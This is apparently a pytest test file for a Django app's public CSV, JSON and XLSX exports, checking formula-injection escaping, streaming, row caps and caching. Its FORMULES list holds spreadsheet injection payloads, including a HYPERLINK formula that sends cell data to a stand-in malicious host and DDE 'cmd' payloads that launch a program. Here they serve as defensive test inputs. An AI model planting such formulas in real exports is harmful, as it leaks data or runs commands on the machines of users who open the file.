"""Attacks on the public exports (issue 11, points 6 and 10): formulas in CSV cells, exports
without limit that are built in memory on every request, and characters a spreadsheet file
cannot hold. The exports are streamed, capped (EXPORT_MAX_RIJEN), cached per filter and keep
formulas as text."""

import csv
import io
import json

import pytest

from django.db import connection
from django.test.utils import CaptureQueriesContext

from afspraken.importeren import importeer
from afspraken.models import Uitvoeringsafspraak

pytestmark = pytest.mark.django_db

FORMULES = [
    '=HYPERLINK("http://kwaadaardig.example/?d="&A1;"Klik hier")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def eigen_exportcache(settings, tmp_path):
    settings.EXPORT_CACHE_MAP = str(tmp_path / "exports")


def _inhoud(antwoord):
    return antwoord.getvalue()  # works for streamed and ordinary answers alike


def _csv(antwoord):
    tekst = _inhoud(antwoord).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(tekst, newline="")))


def _publiceer(afspraak, **velden):
    for veld, waarde in velden.items():
        setattr(afspraak, veld, waarde)
    afspraak.save_revision().publish()
    return afspraak


@pytest.mark.parametrize("formule", FORMULES)
def test_csv_export_houdt_formules_als_tekst(client, formule):
    afspraak = _publiceer(Uitvoeringsafspraak.objects.get(code="BZK-01"), toelichting=formule)
    antwoord = client.get("/afspraken/export/csv/")
    assert antwoord.status_code == 200
    rij = next(r for r in _csv(antwoord) if r["code"] == afspraak.code)
    # A spreadsheet shows the text instead of running it.
    assert rij["toelichting"] == "'" + formule


def test_csv_export_laat_gewone_tekst_ongemoeid(client):
    afspraak = Uitvoeringsafspraak.objects.get(code="BZK-02")
    rij = next(r for r in _csv(client.get("/afspraken/export/csv/")) if r["code"] == "BZK-02")
    assert rij["samenwerkingsafspraak"] == afspraak.samenwerkingsafspraak
    assert rij["toelichting"] == afspraak.toelichting


def test_json_export_geeft_de_tekst_zoals_hij_is(client):
    """JSON is read by programs, not run as a spreadsheet: the text stays exactly as stored."""
    formule = FORMULES[0]
    _publiceer(Uitvoeringsafspraak.objects.get(code="BZK-01"), toelichting=formule)
    rijen = json.loads(_inhoud(client.get("/afspraken/export/json/")))
    assert next(r for r in rijen if r["code"] == "BZK-01")["toelichting"] == formule


def test_xlsx_export_met_stuurteken_in_de_tekst(client):
    from openpyxl import load_workbook

    _publiceer(Uitvoeringsafspraak.objects.get(code="BZK-01"), toelichting="Voor\x01na\x0bde grens")
    antwoord = client.get("/afspraken/export/xlsx/")
    assert antwoord.status_code == 200
    werkmap = load_workbook(io.BytesIO(_inhoud(antwoord)))
    waarden = [c.value for rij in werkmap.active.iter_rows() for c in rij]
    assert "Voornade grens" in waarden


@pytest.mark.parametrize("formaat", ["csv", "json", "xlsx"])
def test_export_boven_het_maximum_vraagt_om_te_filteren(client, settings, formaat):
    binnen_filter = (
        Uitvoeringsafspraak.objects.openbaar()
        .filter(
            kerninstrument__slug="omgevingsvergunning", status__in=["vastgesteld", "in afstemming"]
        )
        .count()
    )
    settings.EXPORT_MAX_RIJEN = binnen_filter
    antwoord = client.get(f"/afspraken/export/{formaat}/")
    assert antwoord.status_code == 400
    tekst = antwoord.content.decode()
    assert f"hoogstens {binnen_filter}" in tekst and "filter" in tekst
    # Within the maximum the same export works.
    klein = client.get(f"/afspraken/export/{formaat}/?kerninstrument=omgevingsvergunning")
    assert klein.status_code == 200


@pytest.mark.parametrize("formaat", ["csv", "json"])
def test_csv_en_json_worden_gestreamd(client, formaat):
    antwoord = client.get(f"/afspraken/export/{formaat}/")
    assert antwoord.status_code == 200
    assert antwoord.streaming  # sent while it is being read, not built in memory first
    assert "attachment" in antwoord["Content-Disposition"]


def test_export_komt_de_tweede_keer_uit_de_cache(client):
    eerste = _inhoud(client.get("/afspraken/export/csv/?status=vastgesteld"))
    with CaptureQueriesContext(connection) as vastgelegd:
        tweede = client.get("/afspraken/export/csv/?status=vastgesteld&onzin=1")
        inhoud = _inhoud(tweede)
    assert inhoud == eerste
    # Only the data version is read (no rows, no keywords): the file is sent from the cache.
    sql = [q["sql"] for q in vastgelegd.captured_queries]
    assert sql and not any("samenwerkingsafspraak" in q or "trefwoord" in q for q in sql)


def test_cache_volgt_wijzigingen_en_import(client):
    client.get("/afspraken/export/csv/").getvalue()
    client.get("/afspraken/export/json/").getvalue()
    _publiceer(Uitvoeringsafspraak.objects.get(code="BZK-01"), toelichting="Nieuwe toelichting.")
    rij = next(r for r in _csv(client.get("/afspraken/export/csv/")) if r["code"] == "BZK-01")
    assert rij["toelichting"] == "Nieuwe toelichting."

    # An import writes new agreements in bulk (no signals): the export still shows them.
    rijen = _csv(client.get("/afspraken/export/csv/"))
    nieuw = dict(rijen[0])
    nieuw.update(
        code="",
        titel="",
        samenwerkingsafspraak="Gemeenten en waterschap delen peilbesluiten binnen een week.",
    )
    uitvoer = io.StringIO()
    schrijver = csv.DictWriter(uitvoer, fieldnames=list(nieuw))
    schrijver.writeheader()
    schrijver.writerow(nieuw)
    assert len(importeer(uitvoer.getvalue().encode(), index=False).nieuw) == 1
    rijen = json.loads(_inhoud(client.get("/afspraken/export/json/")))
    assert any(
        r["samenwerkingsafspraak"].startswith("Gemeenten en waterschap delen") for r in rijen
    )


def test_export_rijen_per_blok_gelijk_aan_de_rijen_van_de_api():
    """The streamed export reads plain values in chunks; the rows are the same as export_rij."""
    from afspraken.register import export_queryset, export_rij, export_rijen

    qs = Uitvoeringsafspraak.objects.openbaar().order_by("pk")
    assert list(export_rijen(qs, chunk_size=3)) == [export_rij(a) for a in export_queryset(qs)]
